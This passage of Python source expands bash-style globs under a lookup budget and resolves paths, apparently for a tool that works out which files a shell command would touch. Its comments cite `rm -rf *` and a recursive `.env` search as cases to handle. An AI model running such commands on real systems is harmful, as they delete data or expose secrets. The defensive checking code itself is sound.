    a path that cannot be, or only past `budget` lookups on disk (a one-item list
    the caller shares between its calls), is also given as unknown (`?/...`).
    `known`: what was seen on disk for this decision (`paths.resolve`), shared the same
    way; the paths a glob expands to are not looked up twice."""
    if not found:
        return found
    if budget is None:
        budget = [_MAX_DISK_LOOKUPS]
    if known is None:
        known = {}
    out: list[str] = []
    for path in found:
        out.append(path)
        if is_unknown(path) or not path.startswith("/"):
            continue
        candidates = [path]
        # `DIR/**` says "everything below DIR" (a recursive read or delete); only a
        # shell glob is expanded the way bash would
        pattern = path.removesuffix("/**")
        if "*" in pattern or "?" in pattern or "[" in pattern:  # (a glob's characters)
            globbed = _glob(path, budget, known)
            if globbed is None:
                # the pattern cannot be expanded here: where it leads is not known
                out.append(UNKNOWN + path)
                continue
            candidates = globbed
            if candidates and not keep_patterns and "/**/" not in path:
                # bash hands the program what the pattern matches, not the pattern;
                # a delete keeps it too: `rm -rf *` says "all of it"; so does a
                # recursive search's `DIR/**/.env` (every `.env` below, not those found
                # one level down)
                out.pop()
            out += candidates
        for candidate in candidates:
            try:
                real = _paths.resolve(candidate, home=home or None, budget=budget, known=known)
            except _paths.UnsafePathError:
                out.append(UNKNOWN + candidate)
                continue
            if real != candidate:
                out.append(real)
    return tuple(dict.fromkeys(out))


def _glob(pattern: str, budget: list[int], known: dict[str, bool]) -> list[str] | None:
    """What bash would expand `pattern` to now (no dotfiles unless named), bounded;
    None when it cannot be expanded, or only by reading more directory entries than
    `budget` has left (`/*/*/*/*/*/*/x` would read the whole file system)."""
    if budget[0] <= 0:
        return None
    found: list[str] = []
    try:
        for match in _iglob(pattern, budget, known, dironly=False):
            found.append(match)
            if len(found) >= _MAX_GLOB_MATCHES:
                break
    except (OSError, ValueError, RecursionError, _GlobTooBig):
        return None
    return found


class _GlobTooBig(Exception):
    pass


def _iglob(
    pattern: str, budget: list[int], known: dict[str, bool], *, dironly: bool
) -> Iterator[str]:
    """`glob.iglob` (not recursive: `**` is `*`), charging each directory entry it
    reads to `budget` (a one-item list, shared by a call's lookups); what `lstat` says
    of a path it looks up goes into `known` (`paths.resolve`'s, which looks next)."""
    import glob

    dirname, basename = os.path.split(pattern)
    if not glob.has_magic(pattern):
        if not may_search(dirname or "/"):
            return  # the caller could not look here (viewer.py): nothing it could see
        if basename:
            if _lexists(pattern, known):
                yield pattern
        elif os.path.isdir(dirname):
            yield pattern  # a pattern ending with a slash matches directories only
        return
    if not dirname:
        return  # (only absolute patterns are expanded)
    if dirname != pattern and glob.has_magic(dirname):
        dirs: Iterable[str] = _iglob(dirname, budget, known, dironly=True)
    else:
        dirs = [dirname]
    for directory in dirs:
        if not glob.has_magic(basename):
            if not may_search(directory):
                continue  # the caller could not look here (viewer.py)
            if (basename and _lexists(os.path.join(directory, basename), known)) or (
                not basename and os.path.isdir(directory)
            ):
                yield os.path.join(directory, basename)
            continue
        names = _entries(directory, budget, dironly)
        if basename[:1] != ".":
            names = [name for name in names if name[:1] != "."]
        for name in fnmatch.filter(names, basename):
            # (nothing kept of what the listing says of the entry: `lstat` of the path
            # may still refuse it — a path of 4,096 bytes, a directory that may be
            # listed but not searched — which `paths.resolve` makes unknown)
            yield os.path.join(directory, name)


def _lexists(path: str, known: dict[str, bool]) -> bool:
    """`os.path.lexists(path)`, what lstat said kept in `known` for `paths.resolve`,
    which looks next."""
    try:
        return _paths.looked_up(path, known) is not False  # (None: a link, there)
    except (OSError, ValueError):
        return False


def _entries(directory: str, budget: list[int], dironly: bool) -> list[str]:
    names: list[str] = []
    if not may_list(directory):
        return names  # as bash, run by the caller, would find it: nothing (viewer.py)
    try:
        with os.scandir(directory) as entries:
            for entry in entries:
                budget[0] -= 1
                if budget[0] < 0:
                    raise _GlobTooBig(directory)
                try:
                    if not dironly or entry.is_dir():
                        names.append(entry.name)
                except OSError:
                    pass
    except OSError:
        return []
    return names
